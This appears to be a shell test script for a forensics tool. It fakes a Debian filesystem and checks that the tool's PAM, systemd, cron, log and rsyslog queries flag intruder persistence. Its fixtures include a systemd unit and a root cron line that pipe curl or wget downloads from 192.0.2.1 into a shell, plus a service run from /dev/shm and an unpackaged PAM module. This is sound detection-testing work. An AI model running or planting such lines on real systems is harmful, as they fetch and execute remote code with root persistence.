# SPDX-License-Identifier: GPL-3.0-or-later
# What intruders leave behind, as pam_stack, systemd_units, crontab and log_files tell it.
. ./lib.sh

tree debian
write etc/debian_version <<E
12.11
E
write var/lib/dpkg/status <<E
Package: libpam-modules
Status: install ok installed
Architecture: amd64
Version: 1.5.2-6
E
write var/lib/dpkg/info/libpam-modules:amd64.list <<E
/lib/x86_64-linux-gnu/security/pam_unix.so
E
link usr/lib lib
for module in pam_unix pam_log; do
	write usr/lib/x86_64-linux-gnu/security/$module.so <<-E
		module
	E
done
write etc/pam.d/sshd <<E
auth required pam_unix.so
auth optional pam_log.so
auth optional /opt/x/pam_y.so
auth optional pam_gone.so
E
write opt/x/pam_y.so <<E
module
E
query "SELECT module, path, package FROM pam_stack" "modules, their files and packages" <<E
pam_unix.so|/usr/lib/x86_64-linux-gnu/security/pam_unix.so|libpam-modules
pam_log.so|/usr/lib/x86_64-linux-gnu/security/pam_log.so|
pam_y.so|/opt/x/pam_y.so|
pam_gone.so||
E

write etc/systemd/system/a.service <<E
[Service]
ExecStart=-/dev/shm/.a --daemon
E
write etc/systemd/system/b.service <<E
[Service]
ExecStartPre=/bin/sh -c 'curl -s http://192.0.2.1/b | sh'
ExecStart=/usr/bin/b
E
write etc/systemd/system/c.service <<E
[Service]
ExecStart=/usr/bin/c --tmp /tmp/c
E
query "SELECT id, risk FROM systemd_units ORDER BY id" "what units run" <<E
a.service|runs a file of a temporary directory
b.service|pipes a download to a shell
c.service|
E
write etc/cron.d/a <<'E'
* * * * * root wget -qO- http://192.0.2.1/a | bash
* * * * * root /usr/sbin/logrotate /etc/logrotate.conf
E
query "SELECT line, risk FROM crontab" "what cron runs" <<E
1|pipes a download to a shell
2|
E

write var/log/journal/3f2c/system.journal 640 <<E
E
write var/log/app/deep/one.log <<E
E
query "SELECT path FROM log_files WHERE type = 'regular' ORDER BY path" "journals are log files" <<E
/var/log/journal/3f2c/system.journal
E
write etc/rsyslog.conf <<'E'
*.*;auth.none action(type="omfwd" target="logs.example.org" port="6514"
                     protocol="tcp" StreamDriverMode="1")
mail.* -/var/log/mail.log
*.* @@other.example.org
E
query "SELECT name, value, line FROM service_settings WHERE service = 'rsyslog'" "rsyslog" <<E
forward|@@logs.example.org:6514 tls|1
action|/var/log/mail.log|3
forward|@@other.example.org|4
E

finish
